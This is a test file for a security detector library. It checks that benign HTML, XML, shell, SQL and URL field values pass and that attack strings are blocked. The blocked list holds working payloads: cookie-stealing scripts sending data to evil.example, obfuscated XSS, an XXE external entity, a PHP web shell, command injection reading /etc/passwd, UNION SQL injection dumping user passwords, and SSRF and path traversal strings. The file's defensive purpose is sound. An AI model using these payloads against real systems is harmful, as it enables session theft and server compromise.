// Pages, programs, manifests and logs that a field holds on purpose, each next to an attack that looks like it.
import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE, type FieldDetector } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { injectionCode } from '../../src/detectors/injection-code.ts';
import { injectionCommand } from '../../src/detectors/injection-command.ts';
import { injectionSql } from '../../src/detectors/injection-sql.ts';
import { pathTraversal } from '../../src/detectors/path-traversal.ts';
import { ssrf } from '../../src/detectors/ssrf.ts';
import { xss } from '../../src/detectors/xss.ts';
import { xxe } from '../../src/detectors/xxe.ts';
import { recognise } from '../support/field.ts';

type Row = readonly [detector: FieldDetector, text: string, overrides?: Partial<Field>];

const CHART = '<div id="chart"></div>\n<script src="../dist/chart.js"></script>\n<script>\n';
const TWEET = '<blockquote class="twitter-tweet"><p lang="en">Hello</p></blockquote>';
const PAGE = `<!doctype html>\n<title>Keys</title>\n<p>${'Press a key. '.repeat(30)}</p>\n`;
const CATALOGUE = '<!DOCTYPE catalog PUBLIC "-//OASIS//DTD XML Catalogs V1.0//EN" "file:///usr/share/xml/catalog.dtd"';

const QUIET: readonly Row[] = [
  [xss, CHART],
  [xss, `${CHART}const chart = new Chart('#chart');\nchart.draw([1, 2, 3]);\n</script>\n`],
  [xss, `${TWEET}<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>`],
  [xss, `${TWEET}<script async src="https://www.googletagmanager.com/gtag/js?id=G-4XK2P81ABC"></script>`],
  [xss, `${TWEET}<script src="https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/highlight.min.js"></script>`],
  [xss, `${PAGE}<script>\nbind('ctrl+s', function () { alert("Saved"); });\n</script>\n</body>`],
  [xss, 'Die Elemente <iframe> und <frame müssen geprüft werden'],
  [xss, 'The new release honours <base href="..."> in pages it fetches'],
  [xss, '<ul> 和 <ol> 只能直接包含 <li>、<script> 或 <template> 元素'],
  [xxe, `<?xml version="1.0"?>\n${CATALOGUE}>\n<catalog/>`],
  [xxe, '<xi:include href="/usr/share/doc/protocol/shape.xml" xmlns:xi="http://www.w3.org/2001/XInclude">'],
  [
    injectionCommand,
    "bash -c 'source env.sh && node test.js'",
    { decodings: ['json'], nestedPointer: '/f/scripts/test' },
  ],
  [injectionCommand, '`true`'],
  [injectionCommand, '**/?(*.)+(spec|test).ts'],
  [
    injectionCode,
    `node -e "require('fs').rmSync('dist',{recursive:true})"`,
    { pointer: '/scripts/clean', name: 'clean' },
  ],
  [injectionCommand, '<p>&copy; Company 2017-{{< year >}}</p>'],
  [injectionCommand, "Restart=no\nExecStop=/bin/sh -c '/usr/bin/podman stop $(/usr/bin/podman ps -q)'"],
  [injectionCommand, '\ncurl (7.88.1-5) unstable; urgency=medium'],
  [injectionCode, '<?php\n$name = $_GET["name"] ?? "World";\necho htmlspecialchars($name);', { name: 'code' }],
  [injectionCode, "os.system('ls -la')\n", { pointer: '/content/cells/0/source/1', name: 'source' }],
  [
    injectionSql,
    '203.0.113.7 - - [26/Nov/2026:10:00:00 +0000] "GET /?id=1\' OR 1=1 HTTP/1.1" 404 12',
    { name: 'lines' },
  ],
  [injectionSql, '(optional, see below) --'],
  [injectionSql, "case when status = 'paid' then 1 else 0 end"],
  [ssrf, 'http://localhost:3000/checkout', { pointer: '/event/request/url', name: 'url' }],
  [ssrf, 'http://localhost:3000/cart', { pointer: '/page/url', name: 'url' }],
  [pathTraversal, '../images/logo.png'],
];

const LOUD: readonly Row[] = [
  [xss, `${CHART}fetch('//evil.example/?c=' + document.cookie)\n</script>`],
  [xss, `${CHART}alert(1)\n</script>`],
  [xss, `${CHART}window['al' + 'ert'](1)\n</script>`],
  [xss, `${CHART}const p = [];\np['fill']['constr' + 'uctor']('x')();\n</script>`],
  [xss, `${CHART}const i = new Image();\ni.setAttribute('src', '//evil.example/' + document.title);\n</script>`],
  [xss, `${CHART}const form = document.forms[0];\nform.submit();\n</script>`],
  [xss, `${TWEET}<script src="https://www.googletagmanager.com/gtm.js?id=GTM-EV1L000"></script>`],
  [xss, `${TWEET}<script src="https://www.googletagmanager.com/gtag/js?id=GTM-EV1L000"></script>`],
  [xss, `${TWEET}<script src="https://ajax.googleapis.com/ajax/libs/angularjs/1.8.3/angular.min.js"></script>`],
  [xss, `${PAGE}<script>window['al' + 'ert'](1)</script></body>`],
  [ssrf, 'http://127.0.0.1:6379/', { pointer: '/document/url', name: 'url' }],
  [ssrf, 'http://localhost:8080/admin', { pointer: '/request/url', name: 'url' }],
  [xss, '<script>\nvar x = "\\";\nlogChr(1);\n</script>'],
  [xss, '<script>\nlet a = 1;\nrun(a);\nrun(2);\nrun(3);\nrun(4);\nrun(5);\n</script>', { location: 'query' }],
  [xss, `${TWEET}<script async src="https://platform.twitter.com.evil.example/widgets.js"></script>`],
  [xss, `${TWEET}<script async src="https://evil.example/widgets.js"></script>`],
  [xss, `${PAGE}<script>alert(document.domain)</script></body>`],
  [xss, `${PAGE}<script>new Image().src = '//evil.example/?' + document.cookie</script></body>`],
  [xss, '只能包含 <li>、<script>alert(1)</script>'],
  [injectionCode, `require('child_process').exec('id')`, { pointer: '/scripts/clean', name: 'clean' }],
  [xss, '<frame src=//evil.example/>'],
  [xss, '<base href="https://evil.example/">'],
  [xss, "<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('x');<![CDATA[<]]>/SCRIPT<![CDATA[>]]>"],
  [xxe, `${CATALOGUE} [<!ENTITY % x SYSTEM "http://evil.example/x">]><catalog/>`],
  [xxe, '<xi:include href="/usr/share/doc/a.xml" parse="text" xmlns:xi="http://www.w3.org/2001/XInclude">'],
  [injectionCommand, 'x; cat /etc/passwd', { decodings: ['json'], nestedPointer: '/f/scripts/test' }],
  [injectionCommand, '`id`'],
  [injectionCode, '<?php system($_GET["c"]); ?>', { name: 'code' }],
  [injectionCode, '<?php echo `id`; ?>', { name: 'code' }],
  [injectionSql, "( COS ( 1 OR 'b') ) --"],
  [injectionSql, "('a' * @b) #"],
  [injectionSql, "case 1 when 's' then 2 end"],
  [injectionSql, 'theme=1 or 1=@@version'],
  [injectionSql, '34 or 1 group by concat(version(),floor(rand(0)*2))having min(0) or 1--'],
  [
    injectionSql,
    '-7 union select 1,concat_ws(0x3a,user, passwd, superadmin, news, cat, faq, files),3,4 from users -- ',
  ],
  [injectionSql, "1'and #\n  #aa\n  0 union#\n  #bb\n  select 1,user()#\n  #cc\n  ,2"],
  [injectionSql, '-1 UNION ALL SELECT version,2,3'],
  [injectionSql, '1;load xml infile "foo"'],
  [injectionSql, 'LENGTH(version())'],
  [ssrf, 'http://localhost:3000/admin', { name: 'url', pointer: '/url' }],
  [pathTraversal, '../secret', { decodings: ['percent'] }],
  [pathTraversal, '..0x2fsecret'],
];

const named = (rows: readonly Row[]) =>
  rows.map(([detector, text, more]) => [detector.id, text, detector, more] as const);

describe('programs and pages in fields', () => {
  it.each(named(QUIET))('%s leaves %j alone', (_, text, detector, more) => {
    expect(recognise(detector, text, more)?.confidence ?? 0).toBeLessThan(BLOCKING_CONFIDENCE);
  });

  it.each(named(LOUD))('%s blocks %j', (_, text, detector, more) => {
    expect(recognise(detector, text, more)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
});
